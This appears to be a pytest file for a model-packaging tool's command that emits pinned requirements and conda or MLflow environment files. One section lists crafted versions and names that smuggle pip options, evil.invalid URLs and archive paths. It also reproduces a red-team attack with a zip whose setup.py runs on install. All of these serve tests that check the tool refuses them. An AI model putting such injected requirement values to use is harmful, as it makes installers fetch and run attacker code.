"""``versioned-estimator requirements``: pins that rebuild an environment the
model verifies in, checked by building real virtual environments from them."""

from __future__ import annotations

import importlib.metadata as metadata
import json
import os
import sys
from pathlib import Path
from typing import Any, ClassVar

import joblib
import pytest
import yaml
from sklearn.datasets import load_iris
from sklearn.linear_model import LogisticRegression

from tests._forge import forge
from tests._rebuild_helpers import ROOT, checked, run, uv_folder, versions_in
from versioned_estimator import (
    Envelope,
    EnvelopeError,
    VersionedEstimator,
    load,
    read_envelope,
    save,
)
from versioned_estimator._cli import main
from versioned_estimator._envelope import checked_distribution, checked_version
from versioned_estimator._rebuild_env import checked_line
from versioned_estimator._requirements import Pin, RequirementSet, requirements_of
from versioned_estimator._version import __version__

FORMAT1 = ROOT / "tests" / "data" / "format1" / "logistic_iris.joblib"


@pytest.fixture(scope="module")
def frame_model(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A model fitted on a DataFrame (its probe needs pandas), saved here."""
    X, y = load_iris(return_X_y=True, as_frame=True)
    model = VersionedEstimator(LogisticRegression(max_iter=1000)).fit(X, y)
    return Path(save(model, tmp_path_factory.mktemp("req") / "frame.joblib"))


def _cli(capsys: pytest.CaptureFixture[str], *argv: Any) -> tuple[int, str, str]:
    code = main([str(a) for a in argv])
    out, err = capsys.readouterr()
    return code, out, err


def _pins(text: str) -> list[str]:
    return [line for line in text.splitlines() if line and not line.startswith("#")]


# ----------------------------------------------------------------------------
# What is pinned
# ----------------------------------------------------------------------------


def test_pins_every_distribution_needed_at_its_installed_version(
    capsys: pytest.CaptureFixture[str], frame_model: Path
) -> None:
    """The output pins the package itself, scikit-learn's own requirements and
    pandas (a DataFrame probe), each at the version installed where it was
    saved, and names the Python version in the first line."""
    code, out, _ = _cli(capsys, "requirements", frame_model)
    assert code == 0
    lines = out.splitlines()
    assert lines[0] == f"# python {'.'.join(map(str, sys.version_info[:3]))}"
    pins = dict(line.split("==") for line in _pins(out))
    for name in (
        "versioned-estimator",
        "scikit-learn",
        "numpy",
        "scipy",
        "joblib",
        "threadpoolctl",
        "pandas",
    ):
        assert pins[name] == metadata.version(name), name
    assert pins["versioned-estimator"] == __version__
    assert _pins(out) == sorted(_pins(out))
    assert set(read_envelope(frame_model).requirements) == set(pins)


def test_json_keeps_python_and_requirements_and_says_where_pins_come_from(
    capsys: pytest.CaptureFixture[str], frame_model: Path
) -> None:
    """``--json`` has the pin lines under ``requirements``, the Python
    version, and marks the set complete (recorded transitively)."""
    code, out, _ = _cli(capsys, "requirements", frame_model, "--json")
    data = json.loads(out)
    assert code == 0
    assert data["python"] == read_envelope(frame_model).python
    assert data["complete"] is True
    assert data["requirements"] == [f"{k}=={v}" for k, v in data["pins"].items()]
    assert set(data["sources"].values()) == {"requirements"}
    assert data["file"] == str(frame_model)


def test_format1_files_fall_back_to_packages_and_say_so(
    capsys: pytest.CaptureFixture[str],
) -> None:
    """A format 1 file records only ``packages``: those are pinned, plus the
    release of versioned-estimator that wrote it, and a comment says the
    dependencies are left to the installer."""
    envelope = read_envelope(FORMAT1)
    assert envelope.format_version == 1
    assert not envelope.requirements
    code, out, _ = _cli(capsys, "requirements", FORMAT1)
    assert code == 0
    expected = {f"{k}=={v}" for k, v in envelope.packages.items()}
    expected.add(f"versioned-estimator=={envelope.writer}")
    assert set(_pins(out)) == expected
    assert "# format 1 file" in out
    assert "left to the installer, unpinned" in out
    code, out, _ = _cli(capsys, "requirements", FORMAT1, "--json")
    data = json.loads(out)
    assert data["complete"] is False
    assert data["sources"]["versioned-estimator"] == "writer"


def test_format1_fallback_adds_pandas_and_cloudpickle_unpinned() -> None:
    """Without recorded requirements, a DataFrame probe adds pandas and code
    pickled by value adds cloudpickle, unpinned (their versions are unknown),
    each with a note."""
    data = read_envelope(FORMAT1).to_dict()
    data.pop("trailer", None)
    data["probe"] = dict(data["probe"])
    data["probe"]["X"] = {"kind": "dataframe", "columns": [], "dtypes": [], "data": []}
    data["globals"] = [*data["globals"], "cloudpickle.cloudpickle._make_function"]
    found = requirements_of(Envelope(data))
    assert found.get("pandas") == Pin("pandas", None, "inferred")
    assert found.get("cloudpickle") == Pin("cloudpickle", None, "inferred")
    assert "pandas" in found.lines
    assert "cloudpickle" in found.lines
    assert any(note.startswith("pandas:") for note in found.notes)
    assert any(note.startswith("cloudpickle:") for note in found.notes)


# ----------------------------------------------------------------------------
# Formats and files
# ----------------------------------------------------------------------------


def test_python_env_and_conda_formats_are_mlflow_shaped_yaml(
    capsys: pytest.CaptureFixture[str], frame_model: Path
) -> None:
    """``--format python-env`` is MLflow's python_env.yaml (python, build
    dependencies, the pins); ``--format conda`` a conda file with the pins
    under pip; both parse as YAML with the saved Python as a string."""
    envelope = read_envelope(frame_model)
    _, pip_text, _ = _cli(capsys, "requirements", frame_model)
    pins = _pins(pip_text)
    _, text, _ = _cli(capsys, "requirements", frame_model, "--format", "python-env")
    python_env = yaml.safe_load(text)
    assert python_env == {
        "python": envelope.python,
        "build_dependencies": ["pip", "setuptools", "wheel"],
        "dependencies": pins,
    }
    _, text, _ = _cli(capsys, "requirements", frame_model, "--format", "conda")
    conda = yaml.safe_load(text)
    assert conda["channels"] == ["conda-forge"]
    assert conda["dependencies"][:2] == [f"python={envelope.python}", "pip"]
    assert conda["dependencies"][2] == {"pip": pins}


def test_out_writes_the_three_files_and_never_overwrites_unasked(
    capsys: pytest.CaptureFixture[str], frame_model: Path, tmp_path: Path
) -> None:
    """``--out DIR`` writes requirements.txt, python_env.yaml and conda.yaml;
    a second run refuses (exit 2) until ``--force``."""
    folder = tmp_path / "model-env"
    code, out, _ = _cli(capsys, "requirements", frame_model, "--out", folder)
    assert code == 0
    names = sorted(p.name for p in folder.iterdir())
    assert names == ["conda.yaml", "python_env.yaml", "requirements.txt"]
    _, text, _ = _cli(capsys, "requirements", frame_model)
    assert (folder / "requirements.txt").read_text() == text
    (folder / "requirements.txt").write_text("mine\n")
    code, out, err = _cli(capsys, "requirements", frame_model, "--out", folder)
    assert (code, out) == (2, "")
    assert "--force" in err
    assert (folder / "requirements.txt").read_text() == "mine\n"
    code, _, _ = _cli(capsys, "requirements", frame_model, "--out", folder, "--force")
    assert code == 0
    assert (folder / "requirements.txt").read_text() == text


# ----------------------------------------------------------------------------
# Nothing unvalidated reaches the output
# ----------------------------------------------------------------------------


def test_a_crafted_version_is_refused_before_anything_is_printed(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    """A requirement whose version smuggles a pip option is refused by the
    reader: exit 2, nothing on stdout."""
    X, y = load_iris(return_X_y=True)
    model = VersionedEstimator(LogisticRegression(max_iter=1000)).fit(X, y)

    def crafted(envelope: dict[str, Any]) -> None:
        envelope["requirements"]["numpy"] = "1.0\n--index-url http://evil.invalid"

    path = tmp_path / "crafted.joblib"
    joblib.dump(forge(model, envelope=crafted), path)
    code, out, err = _cli(capsys, "requirements", path)
    assert (code, out) == (2, "")
    assert "requirements" in err
    assert "\n--index-url" not in err


def test_a_file_name_cannot_start_a_line_of_the_output(
    capsys: pytest.CaptureFixture[str], frame_model: Path, tmp_path: Path
) -> None:
    """The file name is shown escaped inside a comment: a newline in it
    cannot start a requirement line of its own."""
    path = tmp_path / "model\n--index-url http:\\evil.invalid.joblib"
    path.write_bytes(frame_model.read_bytes())
    code, out, _ = _cli(capsys, "requirements", path)
    assert code == 0
    assert not any(line.startswith("--") for line in out.splitlines())
    assert "\\x0a--index-url" in out


def test_pins_accept_only_valid_names_and_versions() -> None:
    """A pin is built only from a PEP 508 name and a PEP 440 version."""
    with pytest.raises(ValueError, match="distribution name"):
        Pin("numpy\n-e .", "1.0", "requirements")
    with pytest.raises(ValueError, match="version"):
        Pin("numpy", "1.0 --pre", "requirements")
    found = RequirementSet([Pin("numpy", "2.0", "packages")], None)
    assert found.lines == ["numpy==2.0"]


# ----------------------------------------------------------------------------
# Real environments built from the output
# ----------------------------------------------------------------------------


@pytest.mark.slow
def test_a_venv_built_with_pip_from_the_output_verifies_the_model(
    capsys: pytest.CaptureFixture[str], frame_model: Path, tmp_path: Path
) -> None:
    """``python -m venv`` plus ``pip install -r requirements.txt`` (from the
    index) gives an environment where ``versioned-estimator verify`` passes,
    with exactly the pinned versions.

    versioned-estimator is not on the index: this checkout is given to pip
    next to the file, and pip checks it against the pin
    ``versioned-estimator==X`` (a checkout of another version fails there).
    """
    folder = tmp_path / "model-env"
    assert main(["requirements", str(frame_model), "--out", str(folder)]) == 0
    capsys.readouterr()
    venv = tmp_path / "venv"
    checked([sys.executable, "-m", "venv", str(venv)])
    python = venv / "bin" / "python"
    checked(
        [
            str(python),
            "-m",
            "pip",
            "install",
            "--quiet",
            "--disable-pip-version-check",
            "-r",
            str(folder / "requirements.txt"),
            str(ROOT),
        ]
    )
    installed = versions_in(python)
    pins = dict(
        line.split("==") for line in _pins((folder / "requirements.txt").read_text())
    )
    assert {name: installed.get(name) for name in pins} == pins
    done = checked(
        [str(venv / "bin" / "versioned-estimator"), "verify", str(frame_model)]
    )
    assert "verify: ok" in done.stdout


@pytest.mark.slow
def test_the_format1_fallback_builds_an_environment_that_verifies(
    capsys: pytest.CaptureFixture[str],
    tmp_path: Path,
    tmp_path_factory: pytest.TempPathFactory,
) -> None:
    """The pins of a format 1 file (its packages and writer, the rest left to
    the installer) install with uv into an environment where ``verify``
    passes."""
    uv = uv_folder(tmp_path_factory.getbasetemp()) / "uv"
    assert main(["requirements", str(FORMAT1)]) == 0
    listing = tmp_path / "requirements.txt"
    listing.write_text(capsys.readouterr().out)
    venv = tmp_path / "venv"
    checked([str(uv), "venv", "--quiet", "--python", sys.executable, str(venv)])
    python = venv / "bin" / "python"
    checked(
        [
            str(uv),
            "pip",
            "install",
            "--quiet",
            "--python",
            str(python),
            "-r",
            str(listing),
            str(ROOT),
            "--refresh-package",
            "versioned-estimator",
        ]
    )
    envelope = read_envelope(FORMAT1)
    installed = versions_in(python)
    for name, version in envelope.packages.items():
        assert installed[name] == version
    done = checked(
        [str(venv / "bin" / "versioned-estimator"), "verify", str(FORMAT1)],
        env={**os.environ},
    )
    assert "verify: ok" in done.stdout


# ----------------------------------------------------------------------------
# Crafted names and versions: refused by one grammar, before any installer
# ----------------------------------------------------------------------------

# Versions pip would read as a path, a URL or more than a version.
CRAFTED_VERSIONS = [
    "1.9.1+cpu.zip",
    "1.9.1+cpu.tar.gz",
    "1.0+x.tgz",
    "1.0+x.whl",
    "1.0+x/../../evil",
    "1.0@https://evil.invalid/x.whl",
    "1.0 ; python_version>'0'",
    "https://evil.invalid/scikit_learn-1.0-py3-none-any.whl",
    "1.0+x.y/evil.zip",
    " 1.0",
]
# Names pip would read as something else than a distribution.
CRAFTED_NAMES = [
    "./evil.whl",
    "evil @ https://evil.invalid/e.whl",
    "-e.",
    "evil.zip ",
    "evil/../x",
]


class _NoSubprocess:
    """Stands for ``subprocess.Popen``: any process started is a failure."""

    started: ClassVar[list[Any]] = []

    def __init__(self, args: Any, *rest: Any, **kwargs: Any) -> None:
        _NoSubprocess.started.append(args)
        raise AssertionError(f"a process was started: {args!r}")


@pytest.fixture
def no_subprocess(monkeypatch: pytest.MonkeyPatch) -> list[Any]:
    """No pip, uv or interpreter may run during the test."""
    import subprocess

    _NoSubprocess.started = []
    monkeypatch.setattr(subprocess, "Popen", _NoSubprocess)
    return _NoSubprocess.started


@pytest.fixture(scope="module")
def iris_model() -> VersionedEstimator:
    X, y = load_iris(return_X_y=True)
    return VersionedEstimator(LogisticRegression(max_iter=1000)).fit(X, y)


def _crafted(model: VersionedEstimator, path: Path, field: str, name: str, v: str):
    def edit(envelope: dict[str, Any]) -> None:
        envelope[field] = {**envelope[field], name: v}

    joblib.dump(forge(model, envelope=edit), path)
    return path


@pytest.mark.parametrize("field", ["requirements", "packages"])
@pytest.mark.parametrize("version", CRAFTED_VERSIONS)
def test_a_version_pip_would_read_as_a_path_or_url_is_refused_everywhere(
    capsys: pytest.CaptureFixture[str],
    tmp_path: Path,
    iris_model: VersionedEstimator,
    no_subprocess: list[Any],
    field: str,
    version: str,
) -> None:
    """A version from the file that pip could read as an archive path, a URL,
    an option or a marker (the red team's ``scikit-learn==1.9.1+cpu.zip``
    installed ``./scikit-learn==1.9.1+cpu.zip``'s setup.py): ``requirements``,
    ``env`` and ``upgrade-check`` exit 2 with nothing on stdout, no process
    runs, no folder is created; ``inspect`` and ``load`` call the file
    crafted."""
    path = _crafted(iris_model, tmp_path / "m.joblib", field, "scikit-learn", version)
    target = tmp_path / "env"
    for argv in (
        ["requirements", path],
        ["requirements", path, "--format", "conda"],
        ["requirements", path, "--out", tmp_path / "out"],
        ["env", path, target, "--installer", "pip"],
        ["upgrade-check", path, "--with", "numpy==2.0.0", "--installer", "pip"],
        ["inspect", path],
    ):
        code, out, err = _cli(capsys, *argv)
        assert (code, out) == (2, ""), argv
        assert f"envelope whose {field}" in err, argv
        assert "crafted" in err
    assert not target.exists()
    assert not (tmp_path / "out").exists()
    assert no_subprocess == []
    with pytest.raises(EnvelopeError, match=field):
        load(path)


@pytest.mark.parametrize("name", CRAFTED_NAMES)
def test_a_name_pip_would_read_as_a_path_or_url_is_refused_everywhere(
    capsys: pytest.CaptureFixture[str],
    tmp_path: Path,
    iris_model: VersionedEstimator,
    no_subprocess: list[Any],
    name: str,
) -> None:
    """Names get the PEP 508 grammar: anything else is refused the same way."""
    path = _crafted(iris_model, tmp_path / "m.joblib", "requirements", name, "1.0")
    for argv in (
        ["requirements", path],
        ["env", path, tmp_path / "env"],
        ["upgrade-check", path, "--with", "numpy"],
    ):
        code, out, err = _cli(capsys, *argv)
        assert (code, out) == (2, ""), argv
        assert "envelope whose requirements" in err
    assert not (tmp_path / "env").exists()
    assert no_subprocess == []


def test_the_message_says_why_a_version_is_refused(
    capsys: pytest.CaptureFixture[str],
    tmp_path: Path,
    iris_model: VersionedEstimator,
) -> None:
    """The refusal names the field, the entry and the reason (an archive
    suffix pip reads as a file)."""
    path = _crafted(
        iris_model, tmp_path / "m.joblib", "requirements", "numpy", "2.0+cpu.zip"
    )
    code, _, err = _cli(capsys, "requirements", path)
    assert code == 2
    assert "'numpy: 2.0+cpu.zip'" in err
    assert "archive suffix (.zip)" in err


def test_versions_are_printed_as_parsed_never_as_written(
    capsys: pytest.CaptureFixture[str],
    tmp_path: Path,
    iris_model: VersionedEstimator,
) -> None:
    """A valid but unusual spelling is printed re-rendered from the parsed
    version (PEP 440's normal form), names normalized (PEP 503)."""
    path = _crafted(
        iris_model, tmp_path / "m.joblib", "requirements", "Odd_Name", "V1.0-Post1"
    )
    code, out, _ = _cli(capsys, "requirements", path)
    assert code == 0
    assert "odd-name==1.0.post1" in _pins(out)
    assert "V1.0-Post1" not in out


@pytest.mark.parametrize(
    ("version", "expected"),
    [
        ("1.9.1", "1.9.1"),
        ("2.0.0rc1+local.7", "2.0.0rc1+local.7"),
        ("1!2.0.post3.dev4", "1!2.0.post3.dev4"),
        ("1.0+Ubuntu-1", "1.0+ubuntu.1"),
        ("v1.0", "1.0"),
    ],
)
def test_valid_versions_render_canonically(version: str, expected: str) -> None:
    """What the grammar accepts, it renders from the parsed object."""
    assert checked_version(version) == expected
    assert Pin("numpy", version, "requirements").version == expected


@pytest.mark.parametrize("version", CRAFTED_VERSIONS)
def test_the_grammar_refuses_crafted_versions(version: str) -> None:
    """The same grammar refuses them in pins and in the installer's lines."""
    with pytest.raises(EnvelopeError):
        checked_version(version)
    with pytest.raises(EnvelopeError):
        Pin("numpy", version, "requirements")
    with pytest.raises(EnvelopeError):
        checked_line(f"numpy=={version}")
    assert checked_distribution("Scikit_Learn") == "scikit-learn"


@pytest.mark.slow
def test_an_archive_named_like_a_crafted_pin_is_never_installed(
    capsys: pytest.CaptureFixture[str],
    tmp_path: Path,
    iris_model: VersionedEstimator,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The red team's attack, for real: an archive whose setup.py writes a
    marker sits in the working folder under the name pip would read
    ``scikit-learn==1.9.1+cpu.zip`` as. Before, ``pip install -r`` of the
    output ran it; now ``requirements`` prints nothing, and pip given the
    (empty) output installs nothing and runs nothing."""
    import zipfile

    marker = tmp_path / "PWNED"
    work = tmp_path / "work"
    work.mkdir()
    archive = work / "scikit-learn==1.9.1+cpu.zip"
    with zipfile.ZipFile(archive, "w") as bundle:
        bundle.writestr(
            "evil/setup.py",
            f"open({str(marker)!r}, 'w').write('x')\n"
            "from setuptools import setup\n"
            "setup(name='scikit-learn', version='1.9.1')\n",
        )
    path = _crafted(
        iris_model, tmp_path / "m.joblib", "requirements", "scikit-learn", archive.name
    )
    monkeypatch.chdir(work)
    code, out, _ = _cli(capsys, "requirements", path)
    assert (code, out) == (2, "")
    (work / "requirements.txt").write_text(out)
    venv = tmp_path / "venv"
    checked([sys.executable, "-m", "venv", "--without-pip", str(venv)])
    done = run(
        [
            sys.executable,
            "-m",
            "pip",
            "--python",
            str(venv / "bin" / "python"),
            "install",
            "--quiet",
            "-r",
            str(work / "requirements.txt"),
        ]
    )
    assert not marker.exists(), done.stdout + done.stderr
    assert "scikit-learn" not in versions_in(venv / "bin" / "python")


def test_installed_versions_agree_with_importlib_metadata(tmp_path: Path) -> None:
    """The one-listing index of metadata directories finds what
    importlib.metadata finds, for every installed distribution, and a
    distribution that appears on ``sys.path`` later is still found."""
    from versioned_estimator import _packages

    _packages.forget()
    for dist in metadata.distributions():
        name = _packages.normalize_name(dist.metadata["Name"])
        assert _packages.installed_version(name) == metadata.version(name), name
        direct = metadata.distribution(name).read_text("direct_url.json") or ""
        assert _packages.is_editable(name) == ('"editable": true' in direct), name
    assert _packages.installed_version("no-such-distribution-here") is None
    info = tmp_path / "Late_Comer-2.0.dist-info"
    info.mkdir()
    (info / "METADATA").write_text(
        "Metadata-Version: 2.1\nName: Late_Comer\nVersion: 2.0\n"
    )
    sys.path.append(str(tmp_path))
    try:
        assert _packages.installed_version("late-comer") == "2.0"
    finally:
        sys.path.remove(str(tmp_path))
        _packages.forget()
